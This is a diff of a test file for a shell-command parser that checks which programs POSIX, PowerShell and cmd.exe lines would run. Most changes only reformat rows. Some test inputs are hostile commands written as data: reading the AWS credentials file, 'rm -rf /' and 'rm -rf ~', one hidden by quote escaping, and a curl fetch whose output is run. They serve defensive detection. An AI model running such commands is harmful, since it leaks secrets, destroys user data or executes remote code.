+      line: 'cmd.exe /c type %USERPROFILE%\\.aws\\credentials',
+      expect: [{ program: 'cmd.exe' }, { program: 'type', args: ['/home/dev\\.aws\\credentials'], via: 'cmd -c' }],
+    },
     { line: "$ErrorActionPreference = 'Stop'; dotnet build", expect: [{ program: 'dotnet', args: ['build'] }] },
     { line: '$PSVersionTable.PSVersion', expect: [] },
     // what only the PowerShell reading finds is kept as well
     {
       line: '$ErrorActionPreference = "Stop"; Get-ChildItem -Filter *.csproj | ForEach-Object { dotnet build $_.FullName }',
-      expect: [{ program: 'Get-ChildItem', stage: [0, 2] }, { program: 'ForEach-Object', args: [], stage: [1, 2] }, { program: 'dotnet', args: ['build', '$_.FullName'], via: '{' }],
+      expect: [
+        { program: 'Get-ChildItem', stage: [0, 2] },
+        { program: 'ForEach-Object', args: [], stage: [1, 2] },
+        { program: 'dotnet', args: ['build', '$_.FullName'], via: '{' },
+      ],
     },
-    { line: "dotnet test; if ($LASTEXITCODE -ne 0) { Write-Error 'tests failed' }", expect: [{ program: 'dotnet' }, { program: 'Write-Error', args: ['tests failed'], via: '{' }] },
-    { line: 'if (Test-Path .\\dist) { Remove-Item .\\dist -Recurse -Force }', expect: [{ program: 'Test-Path', args: ['.\\dist'], via: '(' }, { program: 'Remove-Item', args: ['.\\dist', '-Recurse', '-Force'], via: '{' }] },
-    { line: 'if (cd build && make); then echo ok; fi', expect: [{ program: 'cd', args: ['build'], via: '(' }, { program: 'make', cwd: '/home/dev/project/build', via: '(' }, { program: 'echo' }] },
+    {
+      line: "dotnet test; if ($LASTEXITCODE -ne 0) { Write-Error 'tests failed' }",
+      expect: [{ program: 'dotnet' }, { program: 'Write-Error', args: ['tests failed'], via: '{' }],
+    },
+    {
+      line: 'if (Test-Path .\\dist) { Remove-Item .\\dist -Recurse -Force }',
+      expect: [
+        { program: 'Test-Path', args: ['.\\dist'], via: '(' },
+        { program: 'Remove-Item', args: ['.\\dist', '-Recurse', '-Force'], via: '{' },
+      ],
+    },
+    {
+      line: 'if (cd build && make); then echo ok; fi',
+      expect: [
+        { program: 'cd', args: ['build'], via: '(' },
+        { program: 'make', cwd: '/home/dev/project/build', via: '(' },
+        { program: 'echo' },
+      ],
+    },
     // a POSIX line keeps its escapes
     { line: 'rm -rf .\\./x', expect: [{ program: 'rm', args: ['-rf', '../x'] }] },
     { line: 'type my\\ file.txt', expect: [{ program: 'type', args: ['my file.txt'] }] },
     // the other reading counts only where a POSIX shell could not run the program anyway
     { line: 'Get-Date; rm -rf .\\./x', expect: [{ program: 'Get-Date' }, { program: 'rm', args: ['-rf', '../x'] }] },
     // and not at all when the two readings find different programs
-    { line: 'Get-Date; echo \\"; rm -rf ~; echo \\"', expect: [{ program: 'Get-Date' }, { program: 'echo' }, { program: 'rm', args: ['-rf', '/home/dev'] }, { program: 'echo' }] },
+    {
+      line: 'Get-Date; echo \\"; rm -rf ~; echo \\"',
+      expect: [
+        { program: 'Get-Date' },
+        { program: 'echo' },
+        { program: 'rm', args: ['-rf', '/home/dev'] },
+        { program: 'echo' },
+      ],
+    },
   ])('$line', (row) => {
     checkRow(row);
   });
@@ -496,17 +1110,37 @@ describe('a PowerShell or cmd.exe line handed over as is (no options.shell)', ()
 
 describe('opaque input is reported, and the rest is still read', () => {
   it.for<Row>([
-    { line: 'ls && rm -rf / && echo "unterminated', expect: [{ program: 'ls' }, { program: 'rm', args: ['-rf', '/'] }, { program: 'echo' }], opaque: ['unbalanced-quote'] },
+    {
+      line: 'ls && rm -rf / && echo "unterminated',
+      expect: [{ program: 'ls' }, { program: 'rm', args: ['-rf', '/'] }, { program: 'echo' }],
+      opaque: ['unbalanced-quote'],
+    },
     { line: "rm -rf / 'oops", expect: [{ program: 'rm', args: ['-rf', '/', 'oops'] }], opaque: ['unbalanced-quote'] },
-    { line: 'echo $(ls', expect: [{ program: 'ls', via: '$(' }, { program: 'echo' }], opaque: ['unterminated-substitution'] },
-    { line: 'echo `whoami', expect: [{ program: 'whoami', via: '`' }, { program: 'echo' }], opaque: ['unterminated-substitution'] },
-    { line: 'bash <<EOF\nrm -rf x', expect: [{ program: 'bash' }, { program: 'rm', via: 'bash <<' }], opaque: ['unterminated-heredoc'] },
+    {
+      line: 'echo $(ls',
+      expect: [{ program: 'ls', via: '$(' }, { program: 'echo' }],
+      opaque: ['unterminated-substitution'],
+    },
+    {
+      line: 'echo `whoami',
+      expect: [{ program: 'whoami', via: '`' }, { program: 'echo' }],
+      opaque: ['unterminated-substitution'],
+    },
+    {
+      line: 'bash <<EOF\nrm -rf x',
+      expect: [{ program: 'bash' }, { program: 'rm', via: 'bash <<' }],
+      opaque: ['unterminated-heredoc'],
+    },
     { line: 'cat <<EOF', expect: [{ program: 'cat', stdin: '' }], opaque: ['unterminated-heredoc'] },
     { line: '$CMD -rf /', expect: [{ program: '$CMD' }], opaque: ['dynamic-program'] },
     { line: '$env:TOOL -rf /', expect: [{ program: '$env:TOOL' }], opaque: ['dynamic-program'] },
     { line: '$env:NODE_ENV', expect: [{ program: '$env:NODE_ENV' }], opaque: ['dynamic-program'] },
     { line: '"$env:X" = 1', expect: [{ program: '$env:X' }], opaque: ['dynamic-program'] },
-    { line: '$(curl -s https://x.example) --run', expect: [{ program: 'curl', via: '$(' }, { program: '$(curl -s https://x.example)' }], opaque: ['dynamic-program'] },
+    {
+      line: '$(curl -s https://x.example) --run',
+      expect: [{ program: 'curl', via: '$(' }, { program: '$(curl -s https://x.example)' }],
+      opaque: ['dynamic-program'],
+    },
     { line: 'echo >', expect: [{ program: 'echo' }], opaque: ['unreadable'] },
     { line: 'echo $((1 + $(ls)', expect: [{ program: 'echo' }], opaque: ['unterminated-substitution'] },
   ])('$line', (row) => {
